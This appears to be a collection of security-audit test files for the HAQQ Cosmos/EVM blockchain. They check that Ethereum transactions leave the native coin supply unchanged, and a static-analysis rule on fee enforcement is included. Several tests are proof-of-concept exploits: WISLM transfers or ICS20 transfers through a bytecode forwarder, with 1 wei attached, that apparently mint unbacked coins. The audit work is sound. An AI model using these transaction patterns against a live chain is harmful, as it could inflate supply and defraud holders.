	return append(init, runtime...)
}

// Property C02, withdraw-address identity: the delegator is the calling contract, its distribution withdraw
// address is a third account (its treasury). In ONE transaction the contract pays 1 wei to the treasury and then
// calls distribution.withdrawDelegatorRewards(address(this), val). The bank pays the rewards to the treasury;
// the treasury must end with 1 wei + rewards and the total supply must not move.
func (s *PrecompileTestSuite) TestZZHuntWithdrawAddressDirty() {
	treasury, _ := testutiltx.NewAddrKey()
	runtime := zzPayThenForwardRuntime(treasury)
	s.Require().Equal(65, len(runtime))
	s.Require().Equal(byte(0x5b), runtime[0x3b])

	pool, err := s.DeployContract(evmtypes.CompiledContract{ABI: abi.ABI{}, Bin: zzInit(runtime)})
	s.Require().NoError(err)
	s.NextBlock()

	s.prepareStakingRewards(stakingRewards{Delegator: pool.Bytes(), Validator: s.validators[0], RewardAmt: math.NewInt(1e18)})
	s.Require().NoError(s.app.DistrKeeper.SetWithdrawAddr(s.ctx, pool.Bytes(), treasury.Bytes()))
	s.NextBlock()

	queryCtx, _ := s.ctx.CacheContext()
	expRewardsCoins, err := s.app.DistrKeeper.WithdrawDelegationRewards(queryCtx, pool.Bytes(), s.validators[0].GetOperator())
	s.Require().NoError(err)
	expRewards := expRewardsCoins.AmountOf(s.bondDenom)
	s.Require().True(expRewards.IsPositive(), "the pool has pending rewards")

	supplyBefore := s.app.BankKeeper.GetSupply(s.ctx, s.bondDenom).Amount
	treasuryBefore := s.app.BankKeeper.GetBalance(s.ctx, treasury.Bytes(), s.bondDenom).Amount
	poolBefore := s.app.BankKeeper.GetBalance(s.ctx, pool.Bytes(), s.bondDenom).Amount

	// EOA -> pool {value: 1 wei}: pool pays 1 wei to the treasury, then withdrawDelegatorRewards(pool, val0)
	_, ethRes, err := contracts.Call(s.ctx, s.app, contracts.CallArgs{
		ContractAddr: pool,
		ContractABI:  s.precompile.ABI,
		MethodName:   distribution.WithdrawDelegatorRewardsMethod,
		Args:         []interface{}{pool, s.validators[0].OperatorAddress},
		Amount:       big.NewInt(1),
		PrivKey:      s.privKey,
		GasPrice:     big.NewInt(1e9),
	})
	s.Require().NoError(err)
	s.Require().Empty(ethRes.VmError, "the transaction succeeded")

	supplyAfter := s.app.BankKeeper.GetSupply(s.ctx, s.bondDenom).Amount
	treasuryAfter := s.app.BankKeeper.GetBalance(s.ctx, treasury.Bytes(), s.bondDenom).Amount
	poolAfter := s.app.BankKeeper.GetBalance(s.ctx, pool.Bytes(), s.bondDenom).Amount

	queryCtx, _ = s.ctx.CacheContext()
	left, err := s.app.DistrKeeper.WithdrawDelegationRewards(queryCtx, pool.Bytes(), s.validators[0].GetOperator())
	s.Require().NoError(err)
	s.Require().True(left.AmountOf(s.bondDenom).IsZero(), "rewards were withdrawn, left: %s", left)

	s.T().Logf("rewards=%s treasury: %s -> %s pool: %s -> %s supply: %s -> %s",
		expRewards, treasuryBefore, treasuryAfter, poolBefore, poolAfter, supplyBefore, supplyAfter)

	s.Require().Equal(poolBefore.String(), poolAfter.String(), "the pool received 1 wei and paid 1 wei")
	s.Require().Equal(treasuryBefore.Add(expRewards).AddRaw(1).String(), treasuryAfter.String(),
		"treasury balance after = before + 1 wei + rewards (%s)", expRewards)
	s.Require().Equal(supplyBefore.String(), supplyAfter.String(),
		"an Ethereum transaction must not change the total supply of %s", s.bondDenom)
}
