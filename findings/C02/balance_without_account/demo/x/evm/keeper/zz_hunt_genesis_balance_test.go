package keeper_test

import (
	"math/big"
	"testing"
	"time"

	sdkmath "cosmossdk.io/math"
	"github.com/cometbft/cometbft/crypto/tmhash"
	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"
	stakingtypes "github.com/cosmos/cosmos-sdk/x/staking/types"
	"github.com/ethereum/go-ethereum/common"
	ethtypes "github.com/ethereum/go-ethereum/core/types"
	"github.com/ethereum/go-ethereum/crypto"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/haqq-network/haqq/app"
	"github.com/haqq-network/haqq/crypto/ethsecp256k1"
	"github.com/haqq-network/haqq/testutil"
	utiltx "github.com/haqq-network/haqq/testutil/tx"
	haqqtypes "github.com/haqq-network/haqq/types"
	"github.com/haqq-network/haqq/utils"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
	feemarkettypes "github.com/haqq-network/haqq/x/feemarket/types"
)

// Property C02: executing an Ethereum transaction leaves the total supply of the native coin unchanged and
// every account ends with its previous balance plus what it received.
//
// History: the chain starts from a genesis file in which an address holds a bank balance but has no entry in
// the auth genesis (bank's InitGenesis/ValidateGenesis accept this; accounts are created lazily on the Cosmos side).
// Trigger: a plain Ethereum value transfer of 1 aISLM-wei to that address.
type zzHuntGenesisEnv struct {
	app           *app.Haqq
	ctx           sdk.Context
	holder        common.Address
	holderGenesis sdkmath.Int
	sender        common.Address
	senderPriv    *ethsecp256k1.PrivKey
}

// zzHuntGenesisSetup starts a chain whose bank genesis gives 5 ISLM to an address without an auth account.
func zzHuntGenesisSetup(t *testing.T) zzHuntGenesisEnv {
	chainID := utils.TestEdge2ChainID + "-3"

	// the genesis holder: 5 ISLM in the bank genesis, no auth account
	holder := utiltx.GenerateAddress()
	holderAcc := sdk.AccAddress(holder.Bytes())
	holderGenesis := sdkmath.NewIntWithDecimal(5, 18)

	happ := app.EthSetup(false, func(a *app.Haqq, genesis haqqtypes.GenesisState) haqqtypes.GenesisState {
		feemarketGenesis := feemarkettypes.DefaultGenesisState()
		feemarketGenesis.Params.NoBaseFee = true
		genesis[feemarkettypes.ModuleName] = a.AppCodec().MustMarshalJSON(feemarketGenesis)

		var bankGenesis banktypes.GenesisState
		a.AppCodec().MustUnmarshalJSON(genesis[banktypes.ModuleName], &bankGenesis)
		coins := sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, holderGenesis))
		bankGenesis.Balances = append(bankGenesis.Balances, banktypes.Balance{Address: holderAcc.String(), Coins: coins})
		bankGenesis.Supply = bankGenesis.Supply.Add(coins...)
		genesis[banktypes.ModuleName] = a.AppCodec().MustMarshalJSON(&bankGenesis)
		return genesis
	})

	// same block / proposer set-up as KeeperTestSuite.SetupAppWithT
	consPriv, err := ethsecp256k1.GenerateKey()
	require.NoError(t, err)
	consAddress := sdk.ConsAddress(consPriv.PubKey().Address())
	header := testutil.NewHeader(1, time.Now().UTC(), chainID, consAddress, tmhash.Sum([]byte("app")), tmhash.Sum([]byte("validators")))
	ctx := happ.NewContext(false, header)

	senderAddr, senderPriv := utiltx.NewAddrKey()
	happ.AccountKeeper.SetAccount(ctx, &haqqtypes.EthAccount{
		BaseAccount: authtypes.NewBaseAccount(sdk.AccAddress(senderAddr.Bytes()), nil, 0, 0),
		CodeHash:    common.BytesToHash(crypto.Keccak256(nil)).String(),
	})
	require.NoError(t, testutil.FundAccount(ctx, happ.BankKeeper, senderAddr.Bytes(), sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, sdkmath.NewIntWithDecimal(1, 18)))))

	validator, err := stakingtypes.NewValidator(sdk.ValAddress(senderAddr.Bytes()), consPriv.PubKey(), stakingtypes.Description{})
	require.NoError(t, err)
	require.NoError(t, happ.StakingKeeper.SetValidatorByConsAddr(ctx, validator))
	happ.StakingKeeper.SetValidator(ctx, validator)

	// the history really is "balance, no account", and the genesis was accepted
	require.Nil(t, happ.AccountKeeper.GetAccount(ctx, holderAcc), "precondition: the holder has no auth account")
	require.Equal(t, holderGenesis.String(), happ.BankKeeper.GetBalance(ctx, holderAcc, utils.BaseDenom).Amount.String())

	return zzHuntGenesisEnv{app: happ, ctx: ctx, holder: holder, holderGenesis: holderGenesis, sender: senderAddr, senderPriv: senderPriv}
}

// Property C02: executing an Ethereum transaction leaves the total supply of the native coin unchanged and
// every account ends with its previous balance plus what it received.
//
// History: the chain starts from a genesis file in which an address holds a bank balance but has no entry in
// the auth genesis (bank's InitGenesis/ValidateGenesis accept this; accounts are created lazily on the Cosmos side).
// Trigger: a plain Ethereum value transfer of 1 aISLM-wei to that address.
func TestZZHuntGenesisBalanceWithoutAuthAccount(t *testing.T) {
	env := zzHuntGenesisSetup(t)
	happ, ctx := env.app, env.ctx
	holderAcc := sdk.AccAddress(env.holder.Bytes())

	supplyBefore := happ.BankKeeper.GetSupply(ctx, utils.BaseDenom).Amount
	senderBefore := happ.BankKeeper.GetBalance(ctx, env.sender.Bytes(), utils.BaseDenom).Amount

	// Ethereum tx: sender -> holder, value 1 (gas price 0: fees play no role here)
	value := big.NewInt(1)
	tx := evmtypes.NewTx(&evmtypes.EvmTxArgs{
		ChainID:  happ.EvmKeeper.ChainID(),
		Nonce:    happ.EvmKeeper.GetNonce(ctx, env.sender),
		To:       &env.holder,
		Amount:   value,
		GasLimit: 100000,
	})
	tx.From = env.sender.Hex()
	require.NoError(t, tx.Sign(ethtypes.LatestSignerForChainID(happ.EvmKeeper.ChainID()), utiltx.NewSigner(env.senderPriv)))

	rsp, err := happ.EvmKeeper.EthereumTx(sdk.WrapSDKContext(ctx), tx)
	require.NoError(t, err)
	require.Empty(t, rsp.VmError)

	supplyAfter := happ.BankKeeper.GetSupply(ctx, utils.BaseDenom).Amount
	senderAfter := happ.BankKeeper.GetBalance(ctx, env.sender.Bytes(), utils.BaseDenom).Amount
	holderAfter := happ.BankKeeper.GetBalance(ctx, holderAcc, utils.BaseDenom).Amount

	assert.Equal(t, senderBefore.Sub(sdkmath.NewIntFromBigInt(value)).String(), senderAfter.String(), "the sender paid exactly the value")
	assert.Equal(t, env.holderGenesis.Add(sdkmath.NewIntFromBigInt(value)).String(), holderAfter.String(),
		"the recipient must end with its previous balance plus the value it received")
	assert.Equal(t, supplyBefore.String(), supplyAfter.String(), "an Ethereum value transfer must not change the total supply")
}

// Same history, but the transaction moves no value at all: a contract-creation tx whose init code is
// `PUSH20 <holder> SELFDESTRUCT` (the new contract has balance 0, so the beneficiary is credited with 0).
func TestZZHuntGenesisBalanceWithoutAuthAccountZeroValueSelfdestruct(t *testing.T) {
	env := zzHuntGenesisSetup(t)
	happ, ctx := env.app, env.ctx
	holderAcc := sdk.AccAddress(env.holder.Bytes())

	supplyBefore := happ.BankKeeper.GetSupply(ctx, utils.BaseDenom).Amount

	initCode := append(append([]byte{0x73}, env.holder.Bytes()...), 0xff) // PUSH20 holder; SELFDESTRUCT
	tx := evmtypes.NewTx(&evmtypes.EvmTxArgs{
		ChainID:  happ.EvmKeeper.ChainID(),
		Nonce:    happ.EvmKeeper.GetNonce(ctx, env.sender),
		GasLimit: 200000,
		Input:    initCode,
	})
	tx.From = env.sender.Hex()
	require.NoError(t, tx.Sign(ethtypes.LatestSignerForChainID(happ.EvmKeeper.ChainID()), utiltx.NewSigner(env.senderPriv)))

	rsp, err := happ.EvmKeeper.EthereumTx(sdk.WrapSDKContext(ctx), tx)
	require.NoError(t, err)
	require.Empty(t, rsp.VmError)

	assert.Equal(t, env.holderGenesis.String(), happ.BankKeeper.GetBalance(ctx, holderAcc, utils.BaseDenom).Amount.String(),
		"nobody sent or took anything: the beneficiary of a zero-balance selfdestruct keeps its balance")
	assert.Equal(t, supplyBefore.String(), happ.BankKeeper.GetSupply(ctx, utils.BaseDenom).Amount.String(),
		"a transaction that moves no value must not change the total supply")
}
