package werc20_test

import (
	"math/big"

	"cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/ethereum/go-ethereum/common"

	"github.com/haqq-network/haqq/precompiles/erc20"
	"github.com/haqq-network/haqq/precompiles/werc20"
	"github.com/haqq-network/haqq/precompiles/werc20/testdata"
	"github.com/haqq-network/haqq/testutil/integration/haqq/factory"
	testutiltx "github.com/haqq-network/haqq/testutil/tx"
	erc20types "github.com/haqq-network/haqq/x/erc20/types"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

// TestZZHuntWERC20TransferWithValueMintsNativeCoin: the WISLM (wrapped native coin) precompile executes `transfer`
// as a bank MsgSend of the native coin, but does not mirror that bank change into the EVM StateDB. As soon as the
// sender's balance is dirty in the StateDB (here: 1 wei of msg.value attached to the very same call), the StateDB
// writes its stale, pre-transfer view of the sender back at Commit and MINTS the difference.
//
// Property (C02): executing an Ethereum transaction leaves the total supply of the native coin unchanged, and a
// Cosmos-side debit made by a precompile is never overwritten by the EVM's cached view of that account.
func (s *PrecompileTestSuite) TestZZHuntWERC20TransferWithValueMintsNativeCoin() {
	s.SetupTest()
	// recipient: an address that has no account yet
	s.zzTransferWithValue(testutiltx.GenerateAddress())
}

// Same, with a recipient that already has an account and a balance.
func (s *PrecompileTestSuite) TestZZHuntWERC20TransferWithValueMintsNativeCoinExistingRecipient() {
	s.SetupTest()
	s.zzTransferWithValue(s.keyring.GetKey(1).Addr)
}

func (s *PrecompileTestSuite) zzTransferWithValue(receiver common.Address) {
	sender := s.keyring.GetKey(0)
	denom := s.bondDenom

	// --- register the WISLM precompile exactly as the package's own integration tests (and
	// x/erc20 RegisterERC20Extensions) do
	wislmAddr, err := s.factory.DeployContract(
		sender.Priv,
		evmtypes.EvmTxArgs{},
		factory.ContractDeploymentData{Contract: testdata.WISLMContract, ConstructorArgs: []interface{}{}},
	)
	s.Require().NoError(err)
	tokenPair := erc20types.NewTokenPair(wislmAddr, denom, erc20types.OWNER_MODULE)
	precompile, err := werc20.NewPrecompile(tokenPair, s.network.App.BankKeeper, s.network.App.AuthzKeeper, s.network.App.TransferKeeper)
	s.Require().NoError(err)
	s.Require().NoError(s.network.App.EvmKeeper.AddEVMExtensions(s.network.GetContext(), precompile))
	s.Require().NoError(s.network.NextBlock())
	precompileAddr := precompile.Address()

	bal := func(a common.Address) math.Int {
		return s.network.App.BankKeeper.GetBalance(s.network.GetContext(), a.Bytes(), denom).Amount
	}
	supply := func() math.Int { return s.network.App.BankKeeper.GetSupply(s.network.GetContext(), denom).Amount }

	supplyBefore, senderBefore, receiverBefore, precompileBefore := supply(), bal(sender.Addr), bal(receiver), bal(precompileAddr)

	amount := big.NewInt(1e18) // 1 ISLM transferred with WISLM.transfer(receiver, amount)
	value := big.NewInt(1)     // 1 aISLM of msg.value attached to the same call
	gasPrice := s.network.App.FeeMarketKeeper.GetBaseFee(s.network.GetContext())
	gasLimit := uint64(5_000_000)

	input, err := precompile.Pack(erc20.TransferMethod, receiver, amount)
	s.Require().NoError(err)
	res, err := s.factory.ExecuteEthTx(sender.Priv, evmtypes.EvmTxArgs{
		To:       &precompileAddr,
		Amount:   value,
		GasLimit: gasLimit,
		GasPrice: gasPrice,
		Input:    input,
	})
	s.Require().NoError(err, "the Ethereum transaction must succeed")
	s.Require().True(res.IsOK(), res.Log)
	ethRes, err := evmtypes.DecodeTxResponse(res.Data)
	s.Require().NoError(err)
	s.Require().False(ethRes.Failed(), ethRes.VmError)

	supplyAfter, senderAfter, receiverAfter, precompileAfter := supply(), bal(sender.Addr), bal(receiver), bal(precompileAddr)
	fees := math.NewIntFromBigInt(new(big.Int).Mul(gasPrice, new(big.Int).SetUint64(ethRes.GasUsed)))

	s.T().Logf("supply     before %s after %s (diff %s)", supplyBefore, supplyAfter, supplyAfter.Sub(supplyBefore))
	s.T().Logf("sender     before %s after %s (diff %s) fees %s", senderBefore, senderAfter, senderAfter.Sub(senderBefore), fees)
	s.T().Logf("receiver   before %s after %s (diff %s)", receiverBefore, receiverAfter, receiverAfter.Sub(receiverBefore))
	s.T().Logf("precompile before %s after %s (diff %s)", precompileBefore, precompileAfter, precompileAfter.Sub(precompileBefore))

	// the transfer took place
	s.Require().Equal(math.NewIntFromBigInt(amount).String(), receiverAfter.Sub(receiverBefore).String(), "receiver got the transferred amount")

	// C02: nothing was minted or burned
	s.Require().Equal(supplyBefore.String(), supplyAfter.String(),
		"C02: an Ethereum transaction must leave the total supply of the native coin unchanged")
	// C02: the sender paid what the receiver and the precompile address received, plus fees
	expSender := senderBefore.Sub(math.NewIntFromBigInt(amount)).Sub(math.NewIntFromBigInt(value)).Sub(fees)
	s.Require().Equal(expSender.String(), senderAfter.String(),
		"C02: sender balance = before - transferred amount - msg.value - fees")
}

var _ = sdk.NewCoin
