package ics20_test

// Throw-away triage test for C02 (ICS20 precompile reached through a forwarder contract
// that received 1 wei from the origin, sender = origin, with an ICS20 grant).

import (
	"bytes"
	"math/big"

	"cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	transfertypes "github.com/cosmos/ibc-go/v7/modules/apps/transfer/types"
	ibctesting "github.com/cosmos/ibc-go/v7/testing"
	"github.com/ethereum/go-ethereum/accounts/abi"
	"github.com/ethereum/go-ethereum/common"

	"github.com/haqq-network/haqq/precompiles/authorization"
	cmn "github.com/haqq-network/haqq/precompiles/common"
	"github.com/haqq-network/haqq/precompiles/ics20"
	"github.com/haqq-network/haqq/precompiles/testutil/contracts"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

func zzForwarderInit(target uint16) (initCode, runtime []byte) {
	rt := []byte{
		0x36,
		0x60, 0x00,
		0x60, 0x00,
		0x37,
		0x60, 0x00,
		0x60, 0x00,
		0x36,
		0x60, 0x00,
		0x60, 0x00,
		0x61, byte(target >> 8), byte(target),
		0x5a,
		0xf1,
		0x15,
		0x60, 0x00,
		0x57,
		0x00,
		0x5b,
		0x60, 0x00,
		0x60, 0x00,
		0xfd,
	}
	dest := bytes.LastIndexByte(rt, 0x5b)
	rt[22] = byte(dest)
	init := []byte{0x60, byte(len(rt)), 0x80, 0x60, 0x0b, 0x60, 0x00, 0x39, 0x60, 0x00, 0xf3}
	return append(init, rt...), rt
}

type zzSnap struct {
	supply, origin, feeColl, escrow, fwd math.Int
}

func (s *PrecompileTestSuite) zzSnapshot(fwd common.Address, escrow sdk.AccAddress) zzSnap {
	ctx := s.chainA.GetContext()
	bal := func(a sdk.AccAddress) math.Int { return s.app.BankKeeper.GetBalance(ctx, a, s.bondDenom).Amount }
	return zzSnap{
		supply:  s.app.BankKeeper.GetSupply(ctx, s.bondDenom).Amount,
		origin:  bal(s.address.Bytes()),
		feeColl: bal(authtypes.NewModuleAddress(authtypes.FeeCollectorName)),
		escrow:  bal(escrow),
		fwd:     bal(fwd.Bytes()),
	}
}

func (s *PrecompileTestSuite) zzReport(name string, b, a zzSnap, value int64) (math.Int, math.Int) {
	fee := a.feeColl.Sub(b.feeColl)
	supplyDelta := a.supply.Sub(b.supply)
	originDelta := a.origin.Add(fee).Add(math.NewInt(value)).Sub(b.origin)
	s.T().Logf("[%s] supply before=%s after=%s delta=%s", name, b.supply, a.supply, supplyDelta)
	s.T().Logf("[%s] origin before=%s after=%s fee=%s value=%d => delta excl. gas+value=%s", name, b.origin, a.origin, fee, value, originDelta)
	s.T().Logf("[%s] escrow delta=%s forwarder delta=%s", name, a.escrow.Sub(b.escrow), a.fwd.Sub(b.fwd))
	return supplyDelta, originDelta
}

func (s *PrecompileTestSuite) zzTransferViaFwd(fwd common.Address, value int64, amount *big.Int) error {
	var amt *big.Int
	if value != 0 {
		amt = big.NewInt(value)
	}
	_, _, err := contracts.Call(s.chainA.GetContext(), s.app, contracts.CallArgs{
		ContractAddr: fwd,
		ContractABI:  s.precompile.ABI,
		PrivKey:      s.privKey,
		GasPrice:     gasPrice,
		GasLimit:     2_000_000,
		MethodName:   ics20.TransferMethod,
		Amount:       amt,
		Args: []interface{}{
			s.transferPath.EndpointA.ChannelConfig.PortID,
			s.transferPath.EndpointA.ChannelID,
			s.bondDenom,
			amount,
			s.address, // sender = origin
			s.chainB.SenderAccount.GetAddress().String(),
			s.chainB.GetTimeoutHeight(),
			uint64(0),
			"memo",
		},
	})
	return err
}

// Item 9: ics20.transfer(sender=origin) through a forwarder to 0x0802, with an ICS20 grant origin -> forwarder
func (s *PrecompileTestSuite) TestZZ09ICS20TransferViaForwarder() {
	s.suiteIBCTesting = true
	defer func() { s.suiteIBCTesting = false }()
	s.SetupTest()

	initCode, rt := zzForwarderInit(0x0802)
	fwd, err := DeployContract(s.chainA.GetContext(), s.app, s.privKey, gasPrice, s.queryClientEVM,
		evmtypes.CompiledContract{ABI: abi.ABI{}, Bin: initCode})
	s.Require().NoError(err)
	s.chainA.NextBlock()
	acct := s.app.EvmKeeper.GetAccountWithoutBalance(s.chainA.GetContext(), fwd)
	s.Require().NotNil(acct)
	s.Require().Equal(rt, s.app.EvmKeeper.GetCode(s.chainA.GetContext(), common.BytesToHash(acct.CodeHash)))

	escrow := transfertypes.GetEscrowAddress(s.transferPath.EndpointA.ChannelConfig.PortID, s.transferPath.EndpointA.ChannelID)
	amount := big.NewInt(1e18)

	// negative control: no grant => must revert
	err = s.zzTransferViaFwd(fwd, 1, amount)
	s.Require().Error(err, "transfer via forwarder without grant must fail")
	s.T().Logf("[ics20/no-grant] rejected: %v", err)

	// origin grants the forwarder an ICS20 allocation by calling the precompile's approve directly as EOA
	_, _, err = contracts.Call(s.chainA.GetContext(), s.app, contracts.CallArgs{
		ContractAddr: s.precompile.Address(),
		ContractABI:  s.precompile.ABI,
		PrivKey:      s.privKey,
		GasPrice:     gasPrice,
		MethodName:   authorization.ApproveMethod,
		Args: []interface{}{
			fwd,
			[]cmn.ICS20Allocation{{
				SourcePort:    ibctesting.TransferPort,
				SourceChannel: s.transferPath.EndpointA.ChannelID,
				SpendLimit:    []cmn.Coin{{Denom: s.bondDenom, Amount: big.NewInt(5e18)}},
			}},
		},
	})
	s.Require().NoError(err, "approve failed")
	s.chainA.NextBlock()
	authz, _ := s.app.AuthzKeeper.GetAuthorization(s.chainA.GetContext(), fwd.Bytes(), s.address.Bytes(), ics20.TransferMsgURL)
	s.Require().NotNil(authz, "grant origin -> forwarder must exist")

	// control: 0 wei attached
	b := s.zzSnapshot(fwd, escrow)
	s.Require().NoError(s.zzTransferViaFwd(fwd, 0, amount))
	a := s.zzSnapshot(fwd, escrow)
	sd, od := s.zzReport("ics20.transfer/0wei-control", b, a, 0)
	s.Require().True(sd.IsZero(), "control: supply unchanged")
	s.Require().Equal(math.NewIntFromBigInt(amount).Neg().String(), od.String(), "control: origin debited by amount")

	// attack: 1 wei attached
	b = s.zzSnapshot(fwd, escrow)
	s.Require().NoError(s.zzTransferViaFwd(fwd, 1, amount))
	a = s.zzSnapshot(fwd, escrow)
	sd, od = s.zzReport("ics20.transfer/1wei", b, a, 1)

	s.Require().Equal(math.NewIntFromBigInt(amount).String(), a.escrow.Sub(b.escrow).String(), "amount was escrowed (packet sent)")
	s.Require().Equal(math.NewIntFromBigInt(amount).String(), sd.String(), "HYPOTHESIS: supply increased by the transferred amount")
	s.Require().True(od.IsZero(), "HYPOTHESIS: origin not debited (excl. gas and value)")
}
