#!/usr/bin/env python3-vt
import json,sys,glob,jsonschema
jsonschema.validate(json.load(open('/verif/MANIFEST.json')),json.load(open('/root/.vp/MANIFEST.schema.json')))
s=json.load(open('/root/.vp/EVIDENCE.schema.json'))
for f in sorted(glob.glob('/verif/evidence/C*.json')):
    jsonschema.validate(json.load(open(f)),s)
m=json.load(open('/verif/MANIFEST.json'))
ids={c['property_id'] for c in m['checks']}|{c['property_id'] for c in m.get('not_applicable',[])}
print('manifest+evidence valid; properties covered:',len(ids))
