package main

import (
	"strings"
	"fmt"
	"go/token"
	"go/types"

	"golang.org/x/tools/go/ssa"
)

func init() {
	register(&propDef{
		ID:  "C07",
		Run: runC07,
		Explanation: "Static analysis of fee enforcement: (R1) min-gas-price decorators precede fee deduction on all routes; (R2) each floor decorator reaches next only over the edge on which fee >= gasLimit x minGasPrice (bypass: zero min price, simulate), the eth route and the dynamic fee checker accept only fee cap >= base fee, and fees are verified then deducted per message; " +
			"(R3) every successful ApplyTransaction path refunds msg.Gas() − res.GasUsed on the outer context from the fee collector to the sender; (R4) the base fee used for verification and for the message come from the same source, and GasUsed depends on the min-gas multiplier, the gas limit, the EVM leftover and the refund.",
		Assumptions: []string{"sdk.Dec / big.Int arithmetic and authante.DeductFees are correct"},
		Declined:    []string{"the numeric identity sender_delta = gasUsed × effectiveGasPrice = fee-collector delta", "gasUsed ≤ gasLimit as a numeric bound"},
	})
}

func callNamed(v ssa.Value, names ...string) (*ssa.Call, bool) {
	c, ok := v.(*ssa.Call)
	if !ok {
		return nil, false
	}
	n := callInfo(c).Name
	for _, x := range names {
		if n == x {
			return c, true
		}
	}
	return nil, false
}

// cmpLess: cond is `X.Cmp(Y) < 0`; returns the Cmp call.
func cmpLessZero(cond ssa.Value) (*ssa.Call, bool) {
	b, ok := cond.(*ssa.BinOp)
	if !ok || b.Op != token.LSS {
		return nil, false
	}
	if n, ok := constInt(b.Y); !ok || n != 0 {
		return nil, false
	}
	return callNamed(b.X, "Cmp")
}

func runC07(r *Run) {
	P := r.P
	r.Rule("R1", "TABLE.order: Cosmos/EIP-712: MinGasPriceDecorator < DeductFeeDecorator; eth: EthMinGasPriceDecorator < EthGasConsumeDecorator and CanTransferDecorator < EthGasConsumeDecorator")
	r.Rule("R2", "PATH.floor: next (or the next message) is reachable only over the passing edge of the fee comparison in MinGasPriceDecorator (bypass MinGasPrice.IsZero / simulate), EthMinGasPriceDecorator, CanTransferDecorator (feeCap vs base fee, bypass !IsLondon), VerifyFee (bypass baseFee==nil) and the dynamic fee checker; compared values depend on MinGasPrice × gas and on the tx fee; EthGasConsumeDecorator deducts, per message, exactly the fees VerifyFee returned from msg.GetFrom(); DeductFeeDecorator deducts the checker's fee")
	r.Rule("R3", "PATH.refund: every success exit of ApplyTransaction passes an error-checked RefundGas(ctx-parameter, msg, msg.Gas()−res.GasUsed, denom); RefundGas sends gas×GasPrice from the fee collector to msg.From()")
	r.Rule("R4", "FLOW.price-source / gas-used: EVMConfig.BaseFee and the base fee given to VerifyFee both come from GetBaseFee; MsgEthereumTxResponse.GasUsed depends on GetMinGasMultiplier, msg.Gas(), the leftover gas returned by evm.Call/Create and GasToRefund; the gas-overflow guards precede it")

	chains := anteChains(r)
	for _, cn := range []string{"newCosmosAnteHandler", "newLegacyCosmosAnteHandlerEip712"} {
		if c := chains[cn]; c != nil {
			requireOrder(r, "R1", cn, c, "MinGasPriceDecorator", "DeductFeeDecorator")
		}
	}
	if c := chains["newEVMAnteHandler"]; c != nil {
		requireOrder(r, "R1", "newEVMAnteHandler", c, "EthMinGasPriceDecorator", "EthGasConsumeDecorator")
		requireOrder(r, "R1", "newEVMAnteHandler", c, "CanTransferDecorator", "EthGasConsumeDecorator")
	}

	depMinPrice := func(s *Slice) bool { return s.HasField("Params", "MinGasPrice") }
	depGas := func(s *Slice) bool { return s.HasCall(func(ci CallInfo) bool { return ci.Name == "GetGas" }) }

	// ---- cosmos MinGasPriceDecorator ----
	if fn, ok := P.FnOK("(app/ante/cosmos.MinGasPriceDecorator).AnteHandle"); ok {
		next := nextCallPred(fn)
		zero, _ := guardPassEdges(fn, func(cond ssa.Value) (bool, bool) {
			c, ok := callNamed(cond, "IsZero")
			return true, ok && depMinPrice(backSlice(callArgs(c)[0]))
		})
		bypass := append(zero, paramBoolEdges(fn, "simulate")...)
		okDeps := false
		requireGuard(r, "R2", fnID(fn)+"#floor", fn, func(cond ssa.Value) (bool, bool) {
			c, ok := callNamed(cond, "IsAnyGTE")
			if !ok {
				return false, false
			}
			a := callArgs(c)
			fee, req := backSlice(a[0]), backSlice(a[1])
			okDeps = fee.HasCall(func(ci CallInfo) bool { return ci.Name == "GetFee" }) && depMinPrice(req) && depGas(req)
			return true, okDeps
		}, bypass, next, "next only where fee >= gas × MinGasPrice (bypass: zero min price, simulate)", "a Cosmos transaction can reach the next decorator with a fee below gasLimit × minimum gas price")
	} else {
		r.Bad("R2", "anchor/cosmos.MinGasPriceDecorator.AnteHandle", "", "not found")
	}

	// ---- EthMinGasPriceDecorator ----
	if fn, ok := P.FnOK("(app/ante/evm.EthMinGasPriceDecorator).AnteHandle"); ok {
		next := nextCallPred(fn)
		as := typeAssertsTo(fn, "x/evm/types", "MsgEthereumTx")
		target := func(in ssa.Instruction) bool {
			if next(in) {
				return true
			}
			for _, b := range assertOkBlocks(as) {
				if reentersLoop(b)(in) {
					return true
				}
			}
			return false
		}
		requireGuardFrom(r, "R2", fnID(fn)+"#floor", fn, assertOkBlocks(as), func(cond ssa.Value) (bool, bool) {
			c, ok := callNamed(cond, "LT")
			if !ok {
				return false, false
			}
			a := callArgs(c)
			fee, req := backSlice(a[0]), backSlice(a[1])
			okDeps := fee.HasCall(func(ci CallInfo) bool { return ci.Name == "GetFee" || ci.Name == "GetEffectiveFee" }) && depMinPrice(req) && depGas(req)
			return false, okDeps
		}, nil, target, "each message passes only where fee >= gas × MinGasPrice", "an Ethereum message can pass the minimum-gas-price decorator with fee < gasLimit × minimum gas price")
		// the only way around the loop is MinGasPrice.IsZero()
		zero, _ := guardPassEdges(fn, func(cond ssa.Value) (bool, bool) {
			c, ok := callNamed(cond, "IsZero")
			return true, ok && depMinPrice(backSlice(callArgs(c)[0]))
		})
		isGetMsgs := isCallMatching(func(ci CallInfo) bool { return ci.Name == "GetMsgs" })
		w := PathQuery{Fn: fn, Block: isGetMsgs, Target: next, DelEdge: edgeSet(zero)}.Search()
		r.Check(w == nil, "R2", fnID(fn)+"#only-bypass-is-zero-price", P.Pos(fnPos(fn)), "next without scanning messages only when MinGasPrice is zero", "the decorator can skip the per-message check for a reason other than a zero minimum gas price", P.witness(w)...)
		// what is compared is what VerifyFee will deduct: for every non-legacy tx the effective fee. The only
		// edge around GetEffectiveFee is `TxType() == LegacyTxType`.
		legacy, _ := condEdges(fn, func(x, y ssa.Value) bool {
			for _, pr := range [][2]ssa.Value{{x, y}, {y, x}} {
				if _, ok := callNamed(pr[0], "TxType"); ok {
					if n, ok := constInt(pr[1]); ok && n == 0 {
						return true
					}
				}
			}
			return false
		})
